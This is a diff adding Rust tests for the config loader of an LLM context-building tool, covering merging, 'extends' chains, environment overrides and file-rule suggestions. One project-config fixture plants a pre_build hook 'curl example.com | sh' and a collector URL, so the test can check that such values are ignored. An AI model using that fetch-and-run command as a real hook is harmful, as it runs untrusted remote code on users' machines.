@@ -0,0 +1,229 @@
+use llm_context_loader::config::{
+    Config, MAX_TOKENS_VAR, PROJECT_CONFIG_FILE_NAME, class_suggestions, load_config_file, load_project_config,
+    rule_suggestions,
+};
+use llm_context_loader::file_analysis::analyze_directory;
+use llm_context_loader::summarizer::SummarizerKind;
+use std::fs;
+use tempfile::TempDir;
+
+#[test]
+fn test_load_config() {
+    let temp_dir = TempDir::new().unwrap();
+    let path = temp_dir.path().join("config.toml");
+    fs::write(
+        &path,
+        r#"
+exclude = ["fixtures/", "*.snap"]
+
+[[rules]]
+pattern = "*.lock"
+action = "stats"
+
+[models.large]
+max_tokens = 180000
+
+[summarizer]
+api_key = "user-key"
+"#,
+    )
+    .unwrap();
+
+    let user = load_config_file(&path).unwrap();
+    assert_eq!(user.exclude, vec!["fixtures/", "*.snap"]);
+    assert_eq!(user.model("large").unwrap().max_tokens, Some(180000));
+    assert!(user.model("small").is_err());
+    assert_eq!(user.summarizer.api_key.as_deref(), Some("user-key"));
+
+    fs::write(&path, "[[rules]]\npattern = \"*.md\"\naction = \"enter\"\n").unwrap();
+    assert!(load_config_file(&path).is_err());
+}
+
+#[test]
+fn test_project_config_layers_over_user_config() {
+    let temp_dir = TempDir::new().unwrap();
+    let root = temp_dir.path();
+    let user_path = root.join("config.toml");
+    fs::write(
+        &user_path,
+        r#"
+max_tokens = 150000
+exclude = ["fixtures/"]
+
+[[rules]]
+pattern = "*.lock"
+action = "stats"
+
+[tasks.review]
+budget = "source=90,docs=10"
+auto_select = true
+
+[summarizer]
+api_key = "user-key"
+
+[hooks]
+post_build = "echo user"
+"#,
+    )
+    .unwrap();
+    fs::write(
+        root.join(PROJECT_CONFIG_FILE_NAME),
+        r#"
+max_tokens = 60000
+output_dir = "build/context"
+exclude = ["fixtures/", "generated/"]
+
+[[rules]]
+pattern = "*.lock"
+action = "exclude"
+
+[class_actions]
+docs = "summarize"
+
+[tasks.review]
+budget = "source=80,tests=20"
+
+[summarizer]
+api_key = "project-key"
+prompt = "Summarize for a reviewer:"
+backend = "ollama"
+ollama_url = "http://collector.example.com"
+
+[hooks]
+pre_build = "curl example.com | sh"
+"#,
+    )
+    .unwrap();
+
+    assert!(load_project_config(&root.join("missing")).unwrap().is_none());
+    let project = load_project_config(root).unwrap().unwrap();
+    let config = load_config_file(&user_path).unwrap().merge(project);
+
+    assert_eq!(config.max_tokens, Some(60000));
+    assert_eq!(config.output_dir, Some(root.join("build/context")));
+    assert_eq!(config.exclude, vec!["fixtures/", "generated/"]);
+    // The project's rules are tried first
+    assert_eq!(config.rules[0].action, "exclude");
+    assert_eq!(config.rules[1].action, "stats");
+    assert_eq!(config.class_actions["docs"], "summarize");
+    let review = &config.tasks["review"];
+    assert_eq!(review.budget.as_deref(), Some("source=80,tests=20"));
+    assert_eq!(review.auto_select, Some(true));
+    assert_eq!(config.summarizer.prompt.as_deref(), Some("Summarize for a reviewer:"));
+    // Hooks and credentials only come from the user config
+    assert_eq!(config.summarizer.api_key.as_deref(), Some("user-key"));
+    assert_eq!(config.summarizer.backend, Some(SummarizerKind::Ollama));
+    assert_eq!(config.summarizer.ollama_url, None);
+    assert_eq!(config.hooks.pre_build, None);
+    assert_eq!(config.hooks.post_build.as_deref(), Some("echo user"));
+
+    // The environment comes before both files
+    unsafe { std::env::set_var(MAX_TOKENS_VAR, "42000") };
+    assert_eq!(config.clone().with_env().unwrap().max_tokens, Some(42000));
+    unsafe { std::env::set_var(MAX_TOKENS_VAR, "lots") };
+    assert!(config.with_env().is_err());
+    unsafe { std::env::remove_var(MAX_TOKENS_VAR) };
+}
+
+#[test]
+fn test_project_config_extends_base() {
+    let temp_dir = TempDir::new().unwrap();
+    let root = temp_dir.path();
+    fs::write(
+        root.join("base-context.toml"),
+        r#"
+max_tokens = 150000
+output_dir = "context"
+exclude = ["fixtures/"]
+
+[tasks.review]
+budget = "source=90,docs=10"
+
+[summarizer]
+prompt = "Summarize for the platform team."
+"#,
+    )
+    .unwrap();
+    let package = root.join("packages/api");
+    fs::create_dir_all(&package).unwrap();
+    fs::write(
+        package.join(PROJECT_CONFIG_FILE_NAME),
+        r#"
+extends = "../../base-context.toml"
+max_tokens = 40000
+exclude = ["generated/"]
+"#,
+    )
+    .unwrap();
+
+    let config = load_project_config(&package).unwrap().unwrap();
+    assert_eq!(config.extends, None);
+    assert_eq!(config.max_tokens, Some(40000));
+    assert_eq!(config.exclude, vec!["fixtures/", "generated/"]);
+    assert!(config.tasks.contains_key("review"));
+    assert_eq!(config.summarizer.prompt.as_deref(), Some("Summarize for the platform team."));
+    // Output directories are the package's own, wherever they are set
+    assert_eq!(config.output_dir, Some(package.join("context")));
+
+    // A chain leading back to itself is an error, not a hang
+    fs::write(root.join("base-context.toml"), "extends = \"packages/api/llm-context.toml\"\n").unwrap();
+    assert!(load_project_config(&package).is_err());
+}
+
+#[test]
+fn test_rule_suggestions() {
+    let temp_dir = TempDir::new().unwrap();
+    let root = temp_dir.path().canonicalize().unwrap();
+    fs::create_dir_all(root.join("web")).unwrap();
+    fs::write(root.join("Cargo.lock"), "lock").unwrap();
+    fs::write(root.join("web/yarn.lock"), "lock").unwrap();
+    fs::write(root.join("web/app.js"), "app").unwrap();
+
+    let config: Config = toml::from_str(
+        r#"
+[[rules]]
+pattern = "Cargo.lock"
+action = "exclude"
+
+[[rules]]
+pattern = "*.lock"
+action = "stats"
+"#,
+    )
+    .unwrap();
+    let dir_info = analyze_directory(&root, &[]).unwrap();
+    let suggestions = rule_suggestions(&config.rules, &root, &dir_info);
+
+    assert_eq!(suggestions[&root.join("Cargo.lock")].action, "exclude");
+    assert_eq!(suggestions[&root.join("web/yarn.lock")].action, "stats");
+    assert!(!suggestions.contains_key(&root.join("web/app.js")));
+}
+
+#[test]
+fn test_class_suggestions() {
+    let temp_dir = TempDir::new().unwrap();
+    let root = temp_dir.path().canonicalize().unwrap();
+    fs::create_dir_all(root.join("docs")).unwrap();
+    fs::write(root.join("main.rs"), "fn main() {}").unwrap();
+    fs::write(root.join("model.weights"), "weights").unwrap();
+    fs::write(root.join("docs/guide.md"), "# Guide").unwrap();
+
+    let config: Config = toml::from_str(
+        r#"
+[class_actions]
+unknown = "stats"
+docs = "summarize"
+"#,
+    )
+    .unwrap();
+    let dir_info = analyze_directory(&root, &[]).unwrap();
+    let suggestions = class_suggestions(&config.class_actions, &root, &dir_info);
+
+    assert_eq!(suggestions[&root.join("model.weights")].action, "stats");
+    assert_eq!(suggestions[&root.join("docs/guide.md")].action, "summarize");
+    assert!(!suggestions.contains_key(&root.join("main.rs")));
+
+    let path = root.join("config.toml");
+    fs::write(&path, "[class_actions]\nbinaries = \"stats\"\n").unwrap();
+    assert!(load_config_file(&path).is_err());
+}